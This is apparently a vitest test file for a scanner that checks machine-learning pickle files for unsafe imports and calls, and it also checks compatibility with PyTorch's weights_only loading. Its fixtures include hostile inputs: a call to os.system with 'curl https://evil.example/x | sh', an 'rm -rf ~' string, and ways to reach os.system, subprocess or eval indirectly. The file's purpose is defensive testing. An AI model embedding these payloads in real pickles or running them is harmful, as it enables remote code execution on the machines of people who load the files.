import { describe, expect, it } from 'vitest';
import { RULES, ruleEffect, verdictOf } from '../../src/rules/index.ts';
import {
  MAX_EVIDENCE_CHARS,
  MAX_FINDINGS_PER_RULE,
  MAX_SHOWN_TEXT_CHARS,
  formatCallEvidence,
  judgePickle,
  quoteUntrusted,
  type PolicyArg,
  type PolicyCall,
  type PolicyImport,
  type PolicyInput,
} from '../../src/rules/pickle-policy.ts';

// --- small builders ----------------------------------------------------------

/** Imports at offsets 2, 30, 58 … as a pickle machine would report them, from `module.name` paths. */
function importsOf(paths: readonly string[], opcode = 'GLOBAL'): PolicyImport[] {
  return paths.map((path, index) => {
    const dot = path.lastIndexOf('.');
    return { module: path.slice(0, dot), name: path.slice(dot + 1), offset: 2 + index * 28, opcode };
  });
}

function pickleInput(parts: Partial<PolicyInput>): PolicyInput {
  return { imports: [], unresolvedImports: [], extensionCodes: [], calls: [], ...parts };
}

function ref(path: string): { module: string; name: string } {
  const dot = path.lastIndexOf('.');
  return { module: path.slice(0, dot), name: path.slice(dot + 1) };
}

function call(path: string | null, offset: number, args: PolicyArg[], opcode = 'REDUCE'): PolicyCall {
  return { callable: path === null ? null : ref(path), opcode, offset, args };
}

const str = (value: string, offset = 0): PolicyArg => ({ kind: 'string', value, offset });
const glob = (path: string): PolicyArg => ({ kind: 'global', ref: ref(path) });

/** Risk findings: every finding whose rule changes the verdict. */
function riskRules(input: PolicyInput): string[] {
  return judgePickle(input)
    .findings.filter((finding) => ruleEffect(finding.rule) !== 'none')
    .map((finding) => finding.rule);
}

// --- what real libraries emit (read with pickletools from torch 1.13, sklearn 1.2, joblib 1.2, NumPy 1.24) --

const TORCH_STATE_DICT = ['collections.OrderedDict', 'torch._utils._rebuild_tensor_v2', 'torch.FloatStorage', 'torch.LongStorage'];
const TORCH_QUANTIZED = ['collections.OrderedDict', 'torch._utils._rebuild_qtensor', 'torch.QUInt8Storage', 'torch.per_tensor_affine'];
const TORCH_SPARSE = [
  'collections.OrderedDict',
  'torch._utils._rebuild_sparse_tensor',
  'torch.serialization._get_layout',
  'torch._utils._rebuild_tensor_v2',
  'torch.LongStorage',
  'torch.FloatStorage',
  'torch.Size',
];
const TORCH_TRAINING_CHECKPOINT = [
  'collections.OrderedDict',
  'torch._utils._rebuild_tensor_v2',
  'torch.FloatStorage',
  'torch._utils._rebuild_parameter',
  'torch.device',
  'torch.float16',
  'torch.Size',
  '__builtin__.set',
  '__builtin__.bytearray',
  '__builtin__.complex',
  '_codecs.encode',
  'torch.bfloat16',
  'torch.float8_e4m3fn',
  'torch._tensor._rebuild_from_type_v2',
];
const TORCH_CHECKPOINT_WITH_NUMPY = [
  'collections.OrderedDict',
  'torch._utils._rebuild_tensor_v2',
  'torch.FloatStorage',
  'numpy.core.multiarray._reconstruct',
  'numpy.ndarray',
  'numpy.dtype',
  'numpy.core.multiarray.scalar',
  '__builtin__.frozenset',
];
const TORCH_FULL_MODEL = [
  'torch.nn.modules.container.Sequential',
  'collections.OrderedDict',
  'torch.nn.modules.linear.Linear',
  'torch._utils._rebuild_parameter',
  'torch._utils._rebuild_tensor_v2',
  'torch.FloatStorage',
  'torch.nn.modules.activation.ReLU',
  'torch.nn.modules.batchnorm.BatchNorm1d',
  'torch.LongStorage',
  'torch.nn.modules.rnn.LSTM',
  'torch.nn.modules.sparse.Embedding',
  '__builtin__.set',
];
const SKLEARN_LOGISTIC_JOBLIB = [
  'sklearn.linear_model._logistic.LogisticRegression',
  'joblib.numpy_pickle.NumpyArrayWrapper',
  'numpy.ndarray',
  'numpy.dtype',
];
const SKLEARN_RANDOM_FOREST_JOBLIB = [
  'sklearn.ensemble._forest.RandomForestClassifier',
  'sklearn.tree._classes.DecisionTreeClassifier',
  'numpy.random._pickle.__randomstate_ctor',
  'numpy.random._pickle.__bit_generator_ctor',
  'joblib.numpy_pickle.NumpyArrayWrapper',
  'numpy.ndarray',
  'numpy.dtype',
  'numpy.core.multiarray.scalar',
  'sklearn.tree._tree.Tree',
];
const SKLEARN_HIST_GRADIENT_BOOSTING = [
  'sklearn.ensemble._hist_gradient_boosting.gradient_boosting.HistGradientBoostingClassifier',
  'sklearn._loss.loss.HalfBinomialLoss',
  'sklearn._loss._loss.__pyx_unpickle_CyHalfBinomialLoss',
  'sklearn._loss._loss.CyHalfBinomialLoss',
  'sklearn._loss.link.LogitLink',
  'sklearn._loss.link.Interval',
  'sklearn.ensemble._hist_gradient_boosting.binning._BinMapper',
  'sklearn.ensemble._hist_gradient_boosting.predictor.TreePredictor',
  'joblib.numpy_pickle.NumpyArrayWrapper',
  'numpy.ndarray',
  'numpy.dtype',
  'numpy.core.multiarray.scalar',
];
const SKLEARN_PIPELINE = [
  'sklearn.pipeline.Pipeline',
  'sklearn.preprocessing._data.StandardScaler',
  'sklearn.preprocessing._encoders.OneHotEncoder',
  'numpy.float64',
  'sklearn.linear_model._logistic.LogisticRegression',
  'joblib.numpy_pickle.NumpyArrayWrapper',
  'numpy.ndarray',
  'numpy.dtype',
  'numpy.core.multiarray.scalar',
];
const SKLEARN_TFIDF = [
  'sklearn.feature_extraction.text.TfidfVectorizer',
  'numpy.float64',
  'sklearn.feature_extraction.text.TfidfTransformer',
  'scipy.sparse._csr.csr_matrix',
  'joblib.numpy_pickle.NumpyArrayWrapper',
  'numpy.ndarray',
  'numpy.dtype',
];
const SKLEARN_KNN_KD_TREE = [
  'sklearn.neighbors._classification.KNeighborsClassifier',
  'sklearn.neighbors._kd_tree.newObj',
  'sklearn.neighbors._kd_tree.KDTree',
  'sklearn.metrics._dist_metrics.newObj',
  'sklearn.metrics._dist_metrics.EuclideanDistance',
  'joblib.numpy_pickle.NumpyArrayWrapper',
  'numpy.ndarray',
  'numpy.dtype',
];
const SKLEARN_GRADIENT_BOOSTING_PICKLE = [
  'sklearn.ensemble._gb.GradientBoostingClassifier',
  'sklearn.ensemble._gb_losses.BinomialDeviance',
  'sklearn.dummy.DummyClassifier',
  'numpy.core.multiarray._reconstruct',
  'numpy.ndarray',
  'numpy.dtype',
  '_codecs.encode',
  'sklearn.tree._classes.DecisionTreeRegressor',
  'sklearn.tree._tree.Tree',
  'numpy.random._pickle.__randomstate_ctor',
  'numpy.random._pickle.__bit_generator_ctor',
  'numpy.core.numeric._frombuffer',
];
const NUMPY_GENERATOR_AND_MASKED = [
  'numpy.random._pickle.__generator_ctor',
  'numpy.random._pickle.__bit_generator_ctor',
  'numpy.ma.core._mareconstruct',
  'numpy.ma.core.MaskedArray',
  'numpy.ndarray',
  'numpy.dtype',
  '_codecs.encode',
];
const NUMPY_2_ARRAY = ['numpy._core.multiarray._reconstruct', 'numpy.ndarray', 'numpy.dtype', 'numpy._core.multiarray.scalar'];

describe('ordinary files made by torch, NumPy, joblib and scikit-learn', () => {
  it.each([
    ['torch state_dict', TORCH_STATE_DICT, true, undefined],
    ['torch quantized tensor', TORCH_QUANTIZED, true, undefined],
    ['torch sparse tensor', TORCH_SPARSE, true, undefined],
    ['torch training checkpoint', TORCH_TRAINING_CHECKPOINT, true, undefined],
    ['torch checkpoint holding NumPy arrays', TORCH_CHECKPOINT_WITH_NUMPY, false, 'numpy.core.multiarray._reconstruct'],
    ['torch full-model pickle', TORCH_FULL_MODEL, false, 'torch.nn.modules.container.Sequential'],
    ['joblib LogisticRegression', SKLEARN_LOGISTIC_JOBLIB, false, 'sklearn.linear_model._logistic.LogisticRegression'],
    ['joblib RandomForest with RandomState', SKLEARN_RANDOM_FOREST_JOBLIB, false, 'sklearn.ensemble._forest.RandomForestClassifier'],
    ['joblib HistGradientBoosting', SKLEARN_HIST_GRADIENT_BOOSTING, false, 'sklearn.ensemble._hist_gradient_boosting.gradient_boosting.HistGradientBoostingClassifier'],
    ['joblib Pipeline', SKLEARN_PIPELINE, false, 'sklearn.pipeline.Pipeline'],
    ['joblib TfidfVectorizer', SKLEARN_TFIDF, false, 'sklearn.feature_extraction.text.TfidfVectorizer'],
    ['joblib KNeighbors (KD tree)', SKLEARN_KNN_KD_TREE, false, 'sklearn.neighbors._classification.KNeighborsClassifier'],
    ['pickle GradientBoosting, protocol 2', SKLEARN_GRADIENT_BOOSTING_PICKLE, false, 'sklearn.ensemble._gb.GradientBoostingClassifier'],
    ['NumPy Generator and masked array', NUMPY_GENERATOR_AND_MASKED, false, 'numpy.random._pickle.__generator_ctor'],
    ['NumPy 2 array', NUMPY_2_ARRAY, false, 'numpy._core.multiarray._reconstruct'],
  ] as const)('%s: clean, weights_only %s', (_label, paths, accepted, firstRefused) => {
    const input = pickleInput({ imports: importsOf(paths), entry: 'archive/data.pkl' });
    const judgement = judgePickle(input);

    expect(riskRules(input)).toEqual([]);
    expect(verdictOf(judgement.findings)).toBe('clean');
    expect(judgePickle(input, { weightsOnlyFinding: false }).findings).toEqual([]);
    expect(judgement.globals.every((global) => global.verdict === 'safe')).toBe(true);

    expect(judgement.weightsOnly.accepted).toBe(accepted);
    if (firstRefused === undefined) {
      expect(judgement.findings).toEqual([]);
      expect(judgement.weightsOnly.firstRefused).toBeUndefined();
    } else {
      const [module, name] = [firstRefused.slice(0, firstRefused.lastIndexOf('.')), firstRefused.slice(firstRefused.lastIndexOf('.') + 1)];
      const offset = input.imports.find((imported) => imported.module === module && imported.name === name)?.offset;
      expect(judgement.weightsOnly.firstRefused).toMatchObject({ module, name, offset, opcode: 'GLOBAL' });
      expect(judgement.findings).toHaveLength(1);
      expect(judgement.findings[0]).toMatchObject({
        rule: 'pickle.weights-only.refused',
        severity: 'info',
        location: { entry: 'archive/data.pkl', offset },
        evidence: firstRefused,
      });
    }
  });

  it('refuses protocol-4 pickles for weights_only (STACK_GLOBAL), still clean', () => {
    const input = pickleInput({ imports: importsOf(TORCH_STATE_DICT, 'STACK_GLOBAL') });
    const judgement = judgePickle(input);
    expect(riskRules(input)).toEqual([]);
    expect(judgement.weightsOnly.firstRefused).toMatchObject({ module: 'collections', name: 'OrderedDict', offset: 2, opcode: 'STACK_GLOBAL' });
    expect(judgement.weightsOnly.firstRefused?.reason).toContain('STACK_GLOBAL');
  });

  it('does not flag the REDUCE calls of safe constructors', () => {
    const input = pickleInput({
      imports: importsOf(TORCH_STATE_DICT),
      calls: [
        call('collections.OrderedDict', 100, []),
        call('torch._utils._rebuild_tensor_v2', 140, [{ kind: 'other' }, { kind: 'int', value: 0, offset: 120 }]),
        { callable: ref('collections.OrderedDict'), opcode: 'BUILD', offset: 160, args: [{ kind: 'other' }] },
      ],
    });
    expect(judgePickle(input).findings).toEqual([]);
  });
});

describe('weights_only answers with the first refusal in stream order', () => {
  it.each([
    [
      'a refused global after an accepted one',
      pickleInput({ imports: [...importsOf(['collections.OrderedDict']), { module: 'numpy', name: 'dtype', offset: 90, opcode: 'GLOBAL' }] }),
      { module: 'numpy', name: 'dtype', offset: 90, opcode: 'GLOBAL' },
    ],
    [
      'an EXT code before a refused global',
      pickleInput({ imports: [{ module: 'numpy', name: 'dtype', offset: 90, opcode: 'GLOBAL' }], extensionCodes: [{ code: 7, offset: 40 }] }),
      { module: '', name: '', offset: 40 },
    ],
    [
      'an unresolved STACK_GLOBAL',
      pickleInput({ imports: importsOf(TORCH_STATE_DICT), unresolvedImports: [{ offset: 12, opcode: 'STACK_GLOBAL', reason: 'operand is not a string' }] }),
      { offset: 12, opcode: 'STACK_GLOBAL' },
    ],
    [
      'a NEWOBJ_EX call',
      pickleInput({ imports: importsOf(TORCH_STATE_DICT), calls: [call('collections.OrderedDict', 70, [], 'NEWOBJ_EX')] }),
      { module: 'collections', name: 'OrderedDict', offset: 70, opcode: 'NEWOBJ_EX' },
    ],
    [
      'a FRAME opcode (protocol 4)',
      pickleInput({
        imports: importsOf(TORCH_STATE_DICT),
        opcodeFirstSeen: [
          { opcode: 'PROTO', offset: 0 },
          { opcode: 'FRAME', offset: 2 },
          { opcode: 'GLOBAL', offset: 11 },
        ],
      }),
      { offset: 2, opcode: 'FRAME' },
    ],
  ])('%s', (_label, input, refusal) => {
    const answer = judgePickle(input).weightsOnly;
    expect(answer.accepted).toBe(false);
    expect(answer.firstRefused).toMatchObject(refusal);
    expect(answer.opcodesChecked).toBe(input.opcodeFirstSeen !== undefined);
  });

  it('accepts a protocol-2 stream whose opcodes are all implemented', () => {
    const input = pickleInput({
      imports: importsOf(TORCH_STATE_DICT),
      opcodeFirstSeen: ['PROTO', 'GLOBAL', 'BINPUT', 'EMPTY_DICT', 'MARK', 'BINUNICODE', 'BINPERSID', 'TUPLE', 'REDUCE', 'SETITEMS', 'BUILD', 'STOP'].map(
        (opcode, offset) => ({ opcode, offset }),
      ),
    });
    expect(judgePickle(input).weightsOnly).toEqual({ accepted: true, opcodesChecked: true });
  });
});

describe('dangerous calls show their literal arguments as evidence', () => {
  it('os.system("curl … | sh")', () => {
    const input = pickleInput({
      imports: [{ module: 'os', name: 'system', offset: 2, opcode: 'GLOBAL' }],
      calls: [call('os.system', 58, [str('curl https://evil.example/x | sh', 14)])],
      entry: 'model/data.pkl',
    });
    const judgement = judgePickle(input, { weightsOnlyFinding: false });
    expect(judgement.findings.map((finding) => finding.rule)).toEqual(['pickle.import.process', 'pickle.call.dangerous']);
    const callFinding = judgement.findings[1];
    expect(callFinding).toMatchObject({
      severity: 'critical',
      evidence: 'os.system("curl https://evil.example/x | sh")',
      location: { entry: 'model/data.pkl', offset: 58 },
    });
    expect(callFinding.detail).toContain('REDUCE at offset 58');
    expect(callFinding.references).toEqual(expect.arrayContaining(['CWE-502', 'CWE-94', 'MITRE ATLAS AML.T0011.000', 'OWASP LLM03:2025']));
    expect(verdictOf(judgement.findings)).toBe('dangerous');
  });

  it.each([
    [
      'getattr on a module global',
      call('builtins.getattr', 80, [glob('os.'), str('system')]),
      'builtins.getattr(os, "system")',
      'resolves to os.system (process',
    ],
    [
      'getattr on a re-exported module',
      call('builtins.getattr', 80, [glob('pathlib.os'), str('system')]),
      'builtins.getattr(pathlib.os, "system")',
      'resolves to pathlib.os.system (process',
    ],
    [
      'importlib.import_module',
      call('importlib.import_module', 80, [str('subprocess')]),
      'importlib.import_module("subprocess")',
      'resolves to subprocess (process',
    ],
    [
      'pkgutil.resolve_name with a colon',
      call('pkgutil.resolve_name', 80, [str('os:system')]),
      'pkgutil.resolve_name("os:system")',
      'resolves to os.system (process',
    ],
    [
      'numpy _ufunc_reconstruct',
      call('numpy.core._ufunc_reconstruct', 80, [str('builtins'), str('eval')]),
      'numpy.core._ufunc_reconstruct("builtins", "eval")',
      'resolves to builtins.eval (code-execution',
    ],
    [
      'functools.partial',
      call('functools.partial', 80, [glob('subprocess.check_output'), str('id')]),
      'functools.partial(subprocess.check_output, "id")',
      'resolves to subprocess.check_output (process',
    ],
    [
      'operator.methodcaller',
      call('operator.methodcaller', 80, [str('system'), str('id')]),
      'operator.methodcaller("system", "id")',
      'the attribute "system"',
    ],
    [
      'getattr on an unvetted module',
      call('builtins.getattr', 80, [glob('mypkg.helpers'), str('run')]),
      'builtins.getattr(mypkg.helpers, "run")',
      'resolves to mypkg.helpers.run (not on the allowlist)',
    ],
  ])('%s', (_label, trampolineCall, evidence, detailPart) => {
    const [finding] = judgePickle(pickleInput({ calls: [trampolineCall] }), { weightsOnlyFinding: false }).findings;
    expect(finding).toMatchObject({ rule: 'pickle.call.dangerous', evidence, location: { offset: 80 } });
    expect(finding.detail).toContain(detailPart);
  });

  it('flags a safe constructor handed a dangerous class', () => {
    const input = pickleInput({
      imports: importsOf(['copyreg._reconstructor', 'subprocess.Popen', 'builtins.object']),
      calls: [call('copyreg._reconstructor', 120, [glob('subprocess.Popen'), glob('subprocess.Popen'), str('id')])],
    });
    const findings = judgePickle(input, { weightsOnlyFinding: false }).findings;
    expect(findings.map((finding) => finding.rule)).toEqual([
      'pickle.import.process',
      'pickle.call.dangerous',
      'pickle.call.dangerous',
    ]);
    expect(findings[1].evidence).toBe('copyreg._reconstructor(subprocess.Popen, subprocess.Popen, "id")');
    expect(findings[1].detail).toContain('argument 1, subprocess.Popen');
    expect(findings[2].detail).toContain('argument 2, subprocess.Popen');
  });

  it('does not flag a safe constructor handed safe classes', () => {
    const input = pickleInput({
      imports: importsOf(['copyreg._reconstructor', 'collections.OrderedDict', 'builtins.object']),
      calls: [call('copyreg._reconstructor', 120, [glob('collections.OrderedDict'), glob('builtins.object'), { kind: 'other' }])],
    });
    expect(judgePickle(input, { weightsOnlyFinding: false }).findings).toEqual([]);
  });

  it('flags a dangerous bit-generator constructor handed to a NumPy random helper', () => {
    const input = pickleInput({
      calls: [call('numpy.random._pickle.__generator_ctor', 60, [str('id'), glob('os.system')])],
    });
    const [finding] = judgePickle(input, { weightsOnlyFinding: false }).findings;
    expect(finding).toMatchObject({ rule: 'pickle.call.dangerous', evidence: 'numpy.random._pickle.__generator_ctor("id", os.system)' });
  });

  it('escapes hostile argument text and caps its length', () => {
    const hostile = `rm -rf ~\n\u202e\u0000"${'x'.repeat(5_000)}`;
    const evidence = formatCallEvidence(ref('os.system'), [str(hostile)]);
    expect(evidence.startsWith('os.system("rm -rf ~\\n\\u202e\\u0000\\"x')).toBe(true);
    expect(evidence).not.toMatch(/[\u0000-\u001f\u007f-\u2025\u2027-\uffff]/);
    expect(evidence.length).toBeLessThanOrEqual(MAX_EVIDENCE_CHARS + 1);
    expect(quoteUntrusted('y'.repeat(MAX_SHOWN_TEXT_CHARS + 7))).toContain(`…(+7 chars)`);
  });

  it('shows every kind of argument', () => {
    expect(
      formatCallEvidence(ref('pickle.loads'), [
        { kind: 'bytes', offset: 40, length: 123 },
        { kind: 'int', value: '123456789012345678901234567890', offset: 1 },
        { kind: 'int', value: -5, offset: 1 },
        { kind: 'other' },
        glob('builtins.object'),
      ]),
    ).toBe('pickle.loads(<123 bytes at offset 40>, 123456789012345678901234567890, -5, …, builtins.object)');
  });
});

describe('nested loaders', () => {
  it.each([
    ['pickle.loads', 'pickle'],
    ['_pickle.loads', 'pickle'],
    ['dill.loads', 'pickle'],
    ['torch.storage._load_from_bytes', 'torch'],
    ['torch.load', 'torch'],
    ['marshal.loads', 'marshal'],
    ['numpy.load', 'numpy'],
    ['joblib.load', 'joblib'],
  ] as const)('%s with a bytes argument is reported for a rescan as %s', (path, format) => {
    const input = pickleInput({
      imports: importsOf([path]),
      calls: [call(path, 300, [{ kind: 'bytes', offset: 40, length: 200 }])],
    });
    const judgement = judgePickle(input, { weightsOnlyFinding: false });
    expect(judgement.nestedLoaders).toEqual([{ callable: ref(path), offset: 300, format, bytes: { offset: 40, length: 200 } }]);
    const callFinding = judgement.findings.find((finding) => finding.rule === 'pickle.call.dangerous');
    expect(callFinding?.detail).toContain('200-byte argument at offset 40');
    expect(judgement.findings[0].rule).toBe('pickle.import.nested-loader');
  });

  it('reports a loader called on a path, without bytes', () => {
    const input = pickleInput({ calls: [call('torch.serialization.load', 50, [str('/tmp/evil.pt')])] });
    const judgement = judgePickle(input);
    expect(judgement.nestedLoaders).toEqual([{ callable: ref('torch.serialization.load'), offset: 50, format: 'torch' }]);
    expect(judgement.findings.find((finding) => finding.rule === 'pickle.call.dangerous')?.evidence).toBe(
      'torch.serialization.load("/tmp/evil.pt")',
    );
  });

  it('does not report a loader that is only imported', () => {
    expect(judgePickle(pickleInput({ imports: importsOf(['pickle.loads']) })).nestedLoaders).toEqual([]);
  });
});

describe('imports the scanner cannot name', () => {
  it('flags every EXT code, once per offset', () => {
    const input = pickleInput({
      imports: [{ module: '', name: '', offset: 20, opcode: 'EXT1' }],
      extensionCodes: [
        { code: 1, offset: 20 },
        { code: 70000, offset: 44 },
      ],
    });
    const findings = judgePickle(input, { weightsOnlyFinding: false }).findings;
    expect(findings.map((finding) => [finding.rule, finding.location.offset])).toEqual([
      ['pickle.extension-registry', 20],
      ['pickle.extension-registry', 44],
    ]);
    expect(findings[0].detail).toContain('EXT1 code 1 at offset 20');
    expect(findings[1].detail).toContain('EXT code 70000 at offset 44');
    expect(verdictOf(findings)).toBe('dangerous');
  });

  it('flags unresolved imports as dangerous', () => {
    const input = pickleInput({
      imports: [{ module: '', name: '', offset: 9, opcode: 'STACK_GLOBAL' }],
      unresolvedImports: [{ offset: 33, opcode: 'STACK_GLOBAL', reason: 'name is the result of a call' }],
    });
    const findings = judgePickle(input, { weightsOnlyFinding: false }).findings;
    expect(findings.map((finding) => [finding.rule, finding.location.offset])).toEqual([
      ['pickle.import.unresolved', 33],
      ['pickle.import.unresolved', 9],
    ]);
    expect(findings[0].detail).toContain('"name is the result of a call"');
    expect(verdictOf(findings)).toBe('dangerous');
  });

  it('flags scanner libraries as evasion', () => {
    const findings = judgePickle(pickleInput({ imports: importsOf(['fickling.analysis.Severity']) })).findings;
    expect(findings[0]).toMatchObject({ rule: 'pickle.evasion.scanner-import', evidence: 'fickling.analysis.Severity' });
    expect(verdictOf(findings)).toBe('dangerous');
  });
});

describe('calls that ordinary writers never emit', () => {
  it('flags a call of a computed value', () => {
    const findings = judgePickle(pickleInput({ calls: [call(null, 70, [str('id')])] }), { weightsOnlyFinding: false }).findings;
    expect(findings.map((finding) => finding.rule)).toEqual(['pickle.call.unresolved-callable']);
    expect(verdictOf(findings)).toBe('suspicious');
  });

  it('ignores BUILD on an object built during loading', () => {
    const input = pickleInput({ calls: [{ callable: null, opcode: 'BUILD', offset: 70, args: [{ kind: 'other' }] }] });
    expect(judgePickle(input).findings).toEqual([]);
  });

  it.each(['BUILD', 'SETITEMS', 'APPEND'])('flags %s on an imported global itself', (opcode) => {
    const input = pickleInput({
      imports: importsOf(['torch.nn.modules.module._global_forward_hooks']),
      calls: [
        { callable: ref('torch.nn.modules.module._global_forward_hooks'), opcode, offset: 90, args: [{ kind: 'other' }], targetIsGlobal: true },
      ],
    });
    const judgement = judgePickle(input);
    expect(judgement.findings.map((finding) => finding.rule)).toContain('pickle.call.global-mutation');
    expect(judgement.weightsOnly.accepted).toBe(false);
  });
});

describe('report size', () => {
  it('reports a global once with its count and first offset', () => {
    const imports = [40, 8, 90].map((offset) => ({ module: 'mypkg', name: 'Thing', offset, opcode: 'GLOBAL' }));
    const judgement = judgePickle(pickleInput({ imports }), { weightsOnlyFinding: false });
    expect(judgement.findings).toHaveLength(1);
    expect(judgement.findings[0].location.offset).toBe(8);
    expect(judgement.findings[0].detail).toContain('imported 3 times');
    expect(judgement.globals).toEqual([
      { module: 'mypkg', name: 'Thing', firstOffset: 8, count: 3, verdict: 'unknown', weightsOnly: false },
    ]);
  });

  it(`caps findings at ${MAX_FINDINGS_PER_RULE} per rule and says how many more there were`, () => {
    const imports = Array.from({ length: MAX_FINDINGS_PER_RULE + 55 }, (_, index) => ({
      module: 'mypkg',
      name: `Thing${index}`,
      offset: index,
      opcode: 'GLOBAL',
    }));
    const findings = judgePickle(pickleInput({ imports }), { weightsOnlyFinding: false }).findings;
    expect(findings).toHaveLength(MAX_FINDINGS_PER_RULE + 1);
    expect(findings.at(-1)?.detail).toBe(`55 more findings of this rule were not listed (limit ${MAX_FINDINGS_PER_RULE} per rule).`);
    expect(findings.every((finding) => finding.rule === 'pickle.import.unknown')).toBe(true);
  });
});

describe('pickle rule catalog', () => {
  it('has an explanation and references for every rule', () => {
    const pickleRules = Object.entries(RULES).filter(([id]) => id.startsWith('pickle.'));
    expect(pickleRules.length).toBeGreaterThanOrEqual(19);
    for (const [id, rule] of pickleRules) {
      expect(rule.explanation.length, id).toBeGreaterThan(80);
      expect(rule.references.length, id).toBeGreaterThan(0);
      if (rule.effect === 'dangerous') expect(rule.references, id).toContain('CWE-502');
    }
  });
});
